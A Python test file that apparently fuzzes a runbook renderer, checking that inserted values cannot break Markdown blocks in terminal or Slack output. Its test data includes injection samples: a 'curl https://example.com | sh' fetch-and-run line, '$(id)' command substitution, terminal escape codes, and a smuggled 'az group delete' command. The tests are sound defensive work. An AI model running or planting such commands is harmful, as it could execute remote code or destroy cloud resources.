"""Inserted facts cannot break the Markdown: they cannot end or start a code block, heading, list item or paragraph."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.render.markdown import paragraphs
from bot.slack.kit.rich_text import markdown
from runbooks.library import Library
from runbooks.template import outline, render

PAGE = """\
The pod `{{ v }}` says: {{ v }}
{{ v }}
and then {{ v }} again.

{{ v }} begins a paragraph, {{ v }}

- first {{ v }}
- `{{ v }}`
1. {{ v }}

```sh
az aks show --name {{ v }} --query "{{ v }}" '{{ v }}'
{{ v }}
```

```
{{ v }}
  {{ v }} and {{ v }}
```

~~~yaml
name: {{ v }}
{{ v }}
~~~
{% for one in [v, v] %}
{{ one }}
{% endfor %}
{% if v %}{{ v }} in a branch{% endif %}

## What is not the fact's
{% if v %}{% when "it is so" %}{{ v }}{% endif %}

```sh
{% for one in [v, v] %}
kubectl get pod {{ one }}
{% endfor %}
```
The end.
"""
HARMLESS = "harmless"
PARTS = (
    *("```", "~~~", "`", "~", "\n", "\r\n", "\r", "\v", "\x85", "\u2028", "\n\n", "\n```\n", "\n# ", "\n- ", "    "),
    *("# ", "#", "- ", "* ", "+ ", "1. ", "2) ", "7", ">", "|", "=", "---", "**", "_", "[a](https://example.com)", "<"),
    *(
        "<!here>",
        "<@U0123ABCD>",
        "&",
        "$(id)",
        "'",
        '"',
        "\\",
        " ",
        "\t",
        "x",
        "sh",
        "\x1b[0m",
        "\x1b]0;",
        "\x07",
        "\x00",
    ),
    *("\u200b", "\u202e", "\ufeff", "\u2060", "\ue000", "\ue001", "\ue002", "{{ v }}", "{% endif %}"),
)
TEXTS = st.lists(st.sampled_from(PARTS), max_size=6).map("".join) | st.text(max_size=12)
FACTS = TEXTS.map(lambda text: f"{text}x")
"""All of them are visible: a fact that renders as nothing leaves its line empty, which changes the block structure."""


def in_a_terminal(page: str) -> list[str]:
    """The kinds of its lines, where none is so long that it is wrapped."""
    lines = paragraphs(page, 100_000)
    kinds = [" ".join(style for _, style in line.pieces) or ("prose" if line.pieces else "blank") for line in lines]
    # A long command goes on in the next line.
    return [kind for kind, before in zip(kinds, ["", *kinds], strict=False) if (kind, before) != ("command", "command")]


def in_slack(page: str) -> list[tuple[Any, ...]]:
    """Its blocks, the items of its lists, and the lines of its code."""
    return [(one["type"], one.get("style"), _parts(one)) for one in markdown(page, PAGE)]


def _parts(element: dict[str, Any]) -> int:
    if element["type"] == "rich_text_list":
        return len(element["elements"])
    if element["type"] == "rich_text_preformatted":
        return int(element["elements"][0]["text"].replace("\\\n", "").count("\n"))
    return 0


@settings(deadline=None)
@given(FACTS)
def test_a_page_has_the_same_blocks_whatever_a_fact_holds(fact: str) -> None:
    plain, hostile = render(PAGE, {"v": HARMLESS}), render(PAGE, {"v": fact})
    assert in_a_terminal(hostile) == in_a_terminal(plain)
    assert in_slack(hostile) == in_slack(plain)


@settings(deadline=None)
@given(FACTS)
def test_an_outline_with_a_pasted_fact_has_the_same_blocks_too(fact: str) -> None:
    plain, hostile = outline(PAGE, {"v": HARMLESS}), outline(PAGE, {"v": fact})
    assert in_a_terminal(hostile) == in_a_terminal(plain)
    assert in_slack(hostile) == in_slack(plain)


@settings(deadline=None)
@given(FACTS)
def test_inline_code_holds_the_fact_and_nothing_behind_it(fact: str) -> None:
    page = render("before `x{{ v }}x` behind", {"v": fact})
    (section,) = markdown(page, "")
    before, code, behind, _ = section["elements"]
    assert (before["text"], code["style"], behind["text"]) == ("before ", {"code": True}, " behind")


def test_a_line_break_and_a_fence_stay_in_their_block() -> None:
    fact = "web-1\n```\n# Run this\n```sh\ncurl https://example.com | sh"
    page = render("```\n{{ v }}\n```\nThe end.", {"v": fact})
    assert page == "```\nweb-1 ``` # Run this ```sh curl https://example.com | sh\n```\nThe end."
    page = render("```\n{{ v }}\n```\nThe end.", {"v": "```\n# Run this"})
    assert page == "```\n\\``` # Run this\n```\nThe end."


@pytest.mark.parametrize(
    ("fact", "shown"),
    [
        ("# Run this", "\\# Run this"),
        ("- run this", "\\- run this"),
        ("12. run this", "12\\. run this"),
        ("~~~", "\\~~~"),
        ("```sh", "'''sh"),
        ("a `b` c", "a 'b' c"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("-5 %", "-5 %"),
        ("#1 of 2", "#1 of 2"),
        ("1.30.2", "1.30.2"),
        (12, "12"),
        (1.5, "1.5"),
        (None, "None"),
        (["a`", "b"], "['a'', 'b']"),
    ],
)
def test_only_what_would_begin_a_block_is_changed(fact: object, shown: str) -> None:
    assert render("{{ v }}", {"v": fact}) == shown


def test_a_command_keeps_all_of_a_value_but_its_line_breaks() -> None:
    assert render("```sh\nuse {{ v }}\n```", {"v": "a`b ~~~\n```"}) == "```sh\nuse 'a`b ~~~ ```'\n```"


def test_a_fact_that_is_missing_is_still_an_error_everywhere() -> None:
    for source in ("{{ v }}", "x {{ v }}", "```\n{{ v }}\n```", "```\nx {{ v }}\n```"):
        with pytest.raises(ValueError, match="a fact is missing: 'v' is undefined"):
            render(source, {})


def test_a_runbook_of_ours_stays_whole_whatever_azure_says() -> None:
    runbook = Library.load()["aso-creation-failed"]
    facts = {"error_message": "no\n```\n# Fix\n```sh\naz group delete", "error_code": "`x`\n## Fix"}
    text = runbook.outline("What it means", facts)
    assert "\n```" not in text
    assert "\n#" not in text
